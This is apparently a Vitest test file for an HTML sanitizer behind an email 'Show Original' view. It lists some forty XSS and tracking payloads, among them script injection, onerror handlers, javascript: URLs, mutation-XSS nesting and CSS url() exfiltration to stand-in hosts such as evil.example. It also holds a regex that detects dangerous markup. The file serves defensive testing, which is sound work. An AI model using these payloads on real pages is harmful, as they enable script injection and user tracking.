import { describe, expect, it } from 'vitest'
import { sanitizeOriginal } from './sanitize.ts'

/** Each must leave nothing that runs, loads, submits or navigates the page around it. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/2x.gif 2x">',
  '<img src="cid:logo@air.example">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/trips">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<td background="https://tracker.example/1.png">x</td>',
  '<div style="background:url(https://tracker.example/1.png)">x</div>',
  '<div style="background-color:red;background-image:u\\72l(https://tracker.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="font-family:a\n,url(https://tracker.example)">x</div>',
  '<div style="color:red;position:fixed;top:0;left:0;width:100%">x</div>',
  '<div style="font-family:x;}</style><script>alert(1)</script>">x</div>',
  '<video src="https://tracker.example/v" poster="https://tracker.example/p" autoplay></video>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<body onload=alert(1) background="https://tracker.example">x',
]

const DANGEROUS =
  /<(?:script|style|img|svg|math|iframe|object|embed|form|input|button|meta|base|link|video|template|noscript|textarea)|<[^>]*\son\w+\s*=|<[^>]*\s(?:src|srcset|background|poster|action|data)=|url\(|\\|expression|position|href="(?!https?:|mailto:|tel:)|<!--/i

describe('what Show Original shows', () => {
  it.each(PAYLOADS)('of %s is harmless', (payload) => {
    const clean = sanitizeOriginal(`<p>before</p>${payload}<p>after</p>`)
    expect(clean).not.toMatch(DANGEROUS)
    expect(clean).toContain('before')
  })

  it('keeps tables, colours and words', () => {
    const html =
      '<table border="1" cellpadding="4"><tr><td colspan="2" style="color:#123456;text-align:center">BA478 &amp; more</td></tr></table>'
    expect(sanitizeOriginal(html)).toBe(html)
  })

  it('opens links elsewhere, without telling where they were', () => {
    expect(sanitizeOriginal('<a href="https://air.example/x?a=1&amp;b=2" target="_self" rel="x">x</a>')).toBe(
      '<a target="_blank" rel="noopener noreferrer nofollow" href="https://air.example/x?a=1&amp;b=2">x</a>',
    )
  })

  it('says what a picture shows', () => {
    expect(sanitizeOriginal('<img src="x.png" alt="Oslo &lt;b&gt; Rome">')).toBe(
      '<span>Oslo &lt;b&gt; Rome</span>',
    )
  })

  it('keeps what a mail hides hidden', () => {
    expect(sanitizeOriginal('<div style="display:none">preheader</div>')).toBe(
      '<div style="display:none">preheader</div>',
    )
  })

  it('is at most 256 KB, and whole HTML', () => {
    const clean = sanitizeOriginal('<table>' + '<tr><td style="color:red">é words</td></tr>'.repeat(20_000))
    expect(Buffer.byteLength(clean)).toBeLessThanOrEqual(256 * 1024)
    expect(Buffer.byteLength(clean)).toBeGreaterThan(200 * 1024)
    expect(clean).toMatch(/<\/table>$/)
  })

  it('of HTML nested without end is nothing', () => {
    expect(sanitizeOriginal('<div>'.repeat(100_000))).toBe('')
  })
})
